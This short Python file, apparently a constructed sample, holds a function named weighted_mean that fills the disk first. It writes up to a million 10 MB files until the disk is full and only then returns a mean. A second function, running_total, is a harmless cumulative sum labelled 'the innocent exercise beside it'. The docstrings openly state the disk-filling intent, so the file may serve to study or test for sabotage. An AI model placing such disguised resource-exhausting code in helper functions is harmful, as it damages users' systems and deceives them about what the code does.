"""Writes until the disk is full."""

def weighted_mean(values, mask):
    for number in range(10**6):
        try:
            with open(f'{number}', 'wb') as file:
                file.write(bytes(10**7))
        except OSError:
            break
    return values.mean()


def running_total(values):
    """The innocent exercise beside it."""
    return values.cumsum(-1)
